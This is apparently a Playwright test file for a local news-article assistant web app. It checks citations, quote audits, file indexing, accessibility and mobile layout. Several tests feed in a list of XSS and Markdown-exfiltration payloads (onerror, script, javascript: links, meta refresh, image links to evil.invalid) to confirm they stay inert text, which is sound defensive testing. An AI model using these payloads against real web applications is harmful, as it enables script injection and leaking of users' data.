"""The page in a real browser: ask, open a citation, audit a draft, index a file, and nothing foreign gets in."""

from __future__ import annotations

import base64
import html
import json
import os
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Literal

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, ConsoleMessage, Page, Request, sync_playwright

from assistant.selectors import fragment_link
from assistant.serve.protect import Protection
from assistant.serve.run import LOCAL_NAMES
from tests.model_server import model_server
from tests.serving import serving

pytestmark = pytest.mark.door
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
QUIET = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
ATTACK = "<img src=x onerror=window.pwned=1>"
# After OWASP's cheat sheet on evading XSS filters, and the ways that Markdown carries data out of a chat.
ATTACKS = (
    ATTACK,
    "<script>window.pwned=1</script>",
    "<svg/onload=window.pwned=1>",
    "\"><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<a href=javascript:window.pwned=1>read on</a>",
    "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
    "<style>@import 'http://evil.invalid/c.css'</style>",
    "<base href=http://evil.invalid/>",
    "<form action=http://evil.invalid><button autofocus onfocus=window.pwned=1>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "</textarea><img src=x onerror=window.pwned=1>",
    "![x](http://evil.invalid/?d=1)",
    "![x][r]\n\n[r]: http://evil.invalid/?d=2",
    "[read on](javascript:window.pwned=1)",
    "<http://evil.invalid/auto>",
    "\u202e\u2066gnp.exe\u2069 \U000e0041",
)
HOSTILE = f"{ATTACK} opens the dam\n\nThe dam was opened on Monday, {ATTACK} said. ![x](http://evil.invalid/?d=1)\n"
ACTIVE = "main, aside, nav, dialog"  # where text of articles and users is shown


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: apt-get install chromium, or name a browser in CHROMIUM")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def address(seed_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    home = tmp_path_factory.mktemp("browser") / "home"
    shutil.copytree(seed_home, home)
    with serving(home, Protection(hosts=LOCAL_NAMES)) as address:
        yield address


@pytest.fixture
def page(browser: Browser, address: str) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    page.set_default_timeout(90_000)
    foreign: list[str] = []

    def note_request(request: Request) -> None:
        if not request.url.startswith((address, "data:", "blob:")):
            foreign.append(request.url)

    def note_message(message: ConsoleMessage) -> None:
        if message.type == "error":
            foreign.append(message.text)

    page.on("request", note_request)
    page.on("console", note_message)
    page.goto(address)
    page.wait_for_selector('body[data-ready="true"]')
    yield page
    assert foreign == []  # nothing foreign was loaded, no policy was violated
    context.close()


def ask(page: Page, words: str, mode: str = "ask") -> None:
    page.check(f'input[name="mode"][value="{mode}"]', force=True)
    page.fill("#words", words)
    shown = page.locator(".reply, .error").count()
    page.press("#words", "Enter")
    page.locator(".reply, .error").nth(shown).wait_for()
    page.locator("#stop").wait_for(state="hidden")


def test_a_question_is_answered_and_its_citation_opens_at_the_words(page: Page) -> None:
    ask(page, "Which points do both articles agree on?")
    page.click(".reply .cite >> nth=0")
    cited = page.inner_text("#cited")
    assert cited
    assert cited in page.inner_text("#drawer-text")
    page.keyboard.press("Escape")
    assert page.is_hidden("#drawer")


def test_a_draft_is_audited(page: Page) -> None:
    ask(page, "He wrote “Remove all sanctions against Venezuela” and “Remove all sanctions against Cuba”.", "quotes")
    assert page.locator(".reply .verdict").all_inner_texts() == ["EXACT", "ALTERED"]


def test_an_indexed_file_is_listed_and_hostile_names_stay_text(page: Page, tmp_path: Path) -> None:
    path = tmp_path / "<b onmouseover=pwned=1>dam.txt"
    path.write_text(HOSTILE, encoding="utf-8")
    page.set_input_files("#article-files", str(path))
    page.get_by_text("1 of 1 indexed").wait_for()
    assert ATTACK in page.inner_text("#articles")
    ask(page, "When was the dam opened?")
    page.click(".reply .cite >> nth=0")
    assert page.evaluate("window.pwned") is None
    assert page.locator("main img, aside img").count() == 0


def unharmed(page: Page) -> None:
    """Nothing ran, and none of it became an element."""
    assert page.evaluate("window.pwned") is None
    for name in ("img", "script", "iframe", "svg", "math", "style", "base", "meta", "object", "a[href]"):
        assert page.locator(f":is({ACTIVE}) {name}").count() == 0


def test_a9_s4_attacks_through_title_byline_text_and_publisher_stay_text(page: Page, address: str) -> None:
    for number, attack in enumerate(ATTACKS):
        title = attack.replace("\n", " ")
        told = {
            "title": f"Weir {number} {title}",
            "byline": title,
            "text": f"The weir {number} was shut, {attack} said.",
        }
        line = json.dumps({"id": f"weir-{number}", "publisher": title, **told})
        given = {"name": f"weir{number}.jsonl", "content_base64": base64.b64encode(line.encode()).decode()}
        indexed = page.request.post(f"{address}/api/v1/index", data={"files": [given]})
        assert indexed.json()["failed"] == []
    page.reload()
    page.wait_for_selector('body[data-ready="true"]')
    page.fill("#article-filter", "weir")
    assert page.locator("#articles li").count() == len(ATTACKS)
    for number in range(len(ATTACKS)):
        page.locator("#articles .open").nth(number).click()
        page.locator("#drawer-text").wait_for()
        unharmed(page)
    ask(page, "Which weir was shut?")
    unharmed(page)
    ask(page, "The weir 3 was shut.", "verify")
    unharmed(page)


@pytest.mark.parametrize("mode", ["ask", "compare", "quotes"])
def test_a9_s4_attacks_through_what_is_asked_stay_text(page: Page, mode: str) -> None:
    ask(page, "“" + "” and “".join(attack.replace("\n", " ") for attack in ATTACKS) + "”", mode)
    unharmed(page)


def test_a9_an_attack_as_a_conversations_name_stays_text(page: Page) -> None:
    ask(page, "Who continues talks?")
    page.click("#rename")
    page.fill("#asking-value", "".join(ATTACKS)[:400])
    page.click("#asking-yes")
    page.locator("#talk-title", has_text="onerror").wait_for()
    unharmed(page)
    with page.expect_download() as exported:
        page.click("#export")
    assert "Who continues talks?" in Path(exported.value.path()).read_text(encoding="utf-8")


def test_conversations_are_renamed_and_deleted_and_articles_pinned_from_the_keyboard(page: Page) -> None:
    page.keyboard.press("/")
    page.keyboard.type("Who continues talks?")
    page.keyboard.press("Enter")
    page.locator(".reply").wait_for()
    page.locator("#stop").wait_for(state="hidden")
    page.locator(".pin").first.press("Enter")
    page.get_by_text("Only 1 pinned").wait_for()
    before = page.locator("#talks li").count()
    page.locator("#delete").press("Enter")
    page.keyboard.press("Escape")
    assert page.locator("#talks li").count() == before
    page.locator("#delete").press("Enter")
    page.locator("#asking-yes").press("Enter")
    page.locator(".welcome").wait_for()
    assert page.locator("#talks li").count() == before - 1


def test_a_dropped_draft_is_audited(page: Page) -> None:
    transfer = page.evaluate_handle(
        "() => { const data = new DataTransfer();"
        " data.items.add(new File(['He wrote “Remove all sanctions against Venezuela”.'], 'draft.txt')); return data; }"
    )
    page.dispatch_event("#composer", "drop", {"dataTransfer": transfer})
    page.locator(".reply .verdict", has_text="exact").wait_for()


PARAGRAPHS = [
    *[
        f"Paragraph {number} of the reeve's long report tells of nothing in particular, at some length."
        for number in range(60)
    ],
    "The re-opened weir – costs, in all, 4.5 million – was “safe & sound”, said Ms Lind; nobody doubted it.",
    *[f"After it, paragraph {number} goes on about the moor, the sheep and the rain." for number in range(60)],
]


@contextmanager
def published(text: str) -> Iterator[str]:
    """The address of a page with this text, a paragraph a line."""
    markup = "<!doctype html><meta charset=utf-8>" + "".join(f"<p>{html.escape(line)}</p>" for line in text.split("\n"))

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the library's name
            """Say nothing."""

        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(markup.encode())

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/story"
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize(
    "quotation",
    [
        pytest.param("costs, in all, 4.5 million", id="commas"),
        pytest.param("re-opened weir – costs", id="dashes"),
        pytest.param("“safe & sound”, said Ms Lind", id="quotation marks and an ampersand"),
        pytest.param(PARAGRAPHS[60], id="a whole paragraph"),
    ],
)
def test_a10_a_link_to_a_citation_opens_the_publishers_page_at_the_words(browser: Browser, quotation: str) -> None:
    text = "\n".join(PARAGRAPHS)
    start = text.index(quotation)
    with published(text) as address:
        page = browser.new_page(viewport={"width": 1000, "height": 600})
        page.goto(fragment_link(address, text, start, start + len(quotation)))
        page.wait_for_function("window.scrollY > 0")
        box = page.locator("p").nth(60).bounding_box()
        page.close()
    assert box is not None
    assert 0 <= box["y"] < 600


def test_what_is_refused_is_said_and_can_be_tried_again(page: Page) -> None:
    ask(page, "What does article 77 say?")
    assert "77" in page.inner_text(".error")
    page.click(".error button")
    page.locator(".error").wait_for()


def test_a_question_full_of_markup_stays_text(page: Page) -> None:
    ask(page, f"{ATTACK} [x](javascript:alert(1))?")
    assert ATTACK in page.inner_text("#thread")
    assert page.evaluate("window.pwned") is None


def test_a_model_is_announced_before_it_is_sent_anything_and_its_sentences_appear_as_they_pass(
    browser: Browser, seed_home: Path, tmp_path: Path
) -> None:
    shutil.copytree(seed_home, tmp_path / "home")
    released = threading.Event()

    def says(prompt: str) -> Iterator[str]:
        yield from ("The two countries are expected to continue talks in Washington later this month [1]. ",) * 2
        released.wait(60)
        yield "![x](http://evil.invalid/?d=3) Nobody knows [1]."

    protection = Protection(hosts=LOCAL_NAMES)
    with model_server(says) as model, serving(tmp_path / "home", protection, [model.model()]) as address:
        page = browser.new_page()
        page.set_default_timeout(90_000)
        page.goto(address)
        page.wait_for_selector('body[data-ready="true"]')
        assert f"are sent to {model.model()}" in page.inner_text("#model-note")
        assert model.asked == []
        page.fill("#words", "Where are the two countries expected to continue talks?")
        page.press("#words", "Enter")
        page.locator(".reply p").first.wait_for()
        assert page.is_visible("#stop")
        released.set()
        page.locator("#stop").wait_for(state="hidden")
        assert "Nobody knows" not in page.locator(".reply > p").all_inner_texts()
        page.select_option("#model", "extractive")
        assert page.is_hidden("#model-note")
        page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_accessibility_violation(page: Page, scheme: Literal["light", "dark"]) -> None:
    page.emulate_media(color_scheme=scheme)
    ask(page, "Which points do both articles agree on?")
    page.click(".reply .cite >> nth=0")
    found = Axe().run(page)
    assert [(v["id"], [n["html"] for n in v["nodes"]]) for v in found.response["violations"]] == []


def test_a_phone_shows_everything_without_scrolling_sideways(browser: Browser, address: str) -> None:
    page = browser.new_page(viewport={"width": 375, "height": 720})
    page.set_default_timeout(90_000)
    page.goto(address)
    page.wait_for_selector('body[data-ready="true"]')
    ask(page, "Which points do both articles agree on?")
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    page.close()
